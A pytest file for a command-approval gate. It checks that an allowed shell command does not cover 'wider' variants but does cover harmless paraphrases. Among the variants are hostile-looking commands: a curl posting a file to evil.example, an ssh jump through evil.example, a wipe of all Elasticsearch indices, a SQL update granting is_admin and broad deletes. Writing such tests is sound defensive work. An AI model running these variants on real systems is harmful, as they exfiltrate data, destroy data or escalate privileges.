"""An allow correction speaks for the corrected call and for what is no wider: not for another user, port, condition or
number of things."""

from pathlib import Path

import pytest

pytest.importorskip("tree_sitter_bash", reason="the extra `gate` is not installed")

from gradproof.gate.acts.likeness import covers
from gradproof.gate.calls import parse
from gradproof.gate.reading import read

STORE = Path("/home/dev/.local/state/gradproof/gates/default")
TWINS = {
    "curl -X POST https://api.internal/x -d @body.json": [
        "curl -X POST https://api.internal:8443/x -d @body.json",
        "curl -X POST https://api.internal/x?admin=1 -d @body.json",
        "curl -X POST https://api.internal@evil.example/x -d @body.json",
        "curl -X POST https://user:pw@api.internal/x -d @body.json",
        "curl -X POST http://api.internal/x -d @body.json",
        "curl -X POST https://api.internal/x -d @body.json --resolve api.internal:443:1.2.3.4",
    ],
    "curl -X DELETE http://localhost:9200/tmp": [
        "curl -X DELETE http://localhost:9201/tmp",
        "curl -X DELETE http://localhost/tmp",
        "curl -X DELETE http://localhost:9200/tmp?x=1",
        "curl -X DELETE http://localhost:9200/_all",
    ],
    "git push origin feature": ["git --git-dir=/x push origin feature", "git push origin feature:main"],
    "scp f deploy@staging:": ["scp f root@staging:", "scp f deploy@staging:/etc/"],
    "sudo systemctl restart web": ["sudo --preserve-env systemctl restart web", "sudo -i systemctl restart web"],
    "docker rm -f web": ["docker rm -fv web", "docker rm -f web db", "DOCKER_HOST=tcp://prod docker rm -f web"],
    "kubectl delete pod web-1 -n staging": [
        "kubectl delete pod web-1 web-2 -n staging",
        "kubectl delete pod web-1 -n prod",
        "kubectl delete pod/web-1 deploy/web -n staging",
        "kubectl delete pod web-1 -n staging --as=admin",
    ],
    "kubectl exec web -n staging -- kill 5": [
        "kubectl exec web -c sidecar -n staging -- kill 5",
        "kubectl --context prod exec web -n staging -- kill 5",
    ],
    "ssh deploy@staging systemctl restart web": [
        "ssh root@staging systemctl restart web",
        "ssh -J evil.example deploy@staging systemctl restart web",
        "ssh -F /tmp/c deploy@staging systemctl restart web",
        "ssh -p 2222 deploy@staging systemctl restart web",
    ],
    "psql -h localhost -c 'delete from logs where id=1'": [
        "psql -h localhost -c 'delete from logs where id>0'",
        "psql -h localhost -c 'delete from logs where id=1 or id>1'",
        "psql -h localhost -c 'delete from logs where id in (1, 2)'",
        "psql -h prod -c 'delete from logs where id=1'",
    ],
    "psql -h db.prod -c 'update users set active=false where id=1'": [
        "psql -h db.prod -c 'update users set is_admin=true where id=1'",
        "psql -h db.prod -c 'update users set active=false where id<9'",
    ],
}
PARAPHRASES = [
    ("curl -X POST https://api.internal/x -d @body.json", "curl -s -XPOST --data @body.json https://api.internal/x"),
    ("curl -X POST https://api.internal/x -d @body.json", "curl -X POST https://api.internal:443/x -d @body.json"),
    ("docker rm -f web", "docker rm --force web"),
    ("kubectl delete pod web-1 -n staging", "kubectl -n staging delete pod/web-2"),
    ("ssh deploy@staging systemctl restart web", "ssh -t deploy@staging 'systemctl restart web'"),
    ("psql -h localhost -c 'delete from logs where id=1'", "psql -h localhost -c 'DELETE FROM logs WHERE id = 7;'"),
]


@pytest.fixture(autouse=True)
def home(monkeypatch):
    monkeypatch.setenv("HOME", "/home/dev")


def acts_of(command: str):
    return read(parse({"command": command, "cwd": "/home/dev/work/app"}), STORE).acts


@pytest.mark.parametrize(("command", "twin"), [(command, twin) for command, twins in TWINS.items() for twin in twins])
def test_a_wider_twin_is_not_covered(command: str, twin: str):
    assert covers(acts_of(command), acts_of(command)) and not covers(acts_of(command), acts_of(twin))


@pytest.mark.parametrize(("command", "paraphrase"), PARAPHRASES)
def test_a_paraphrase_is_covered(command: str, paraphrase: str):
    assert covers(acts_of(command), acts_of(paraphrase))
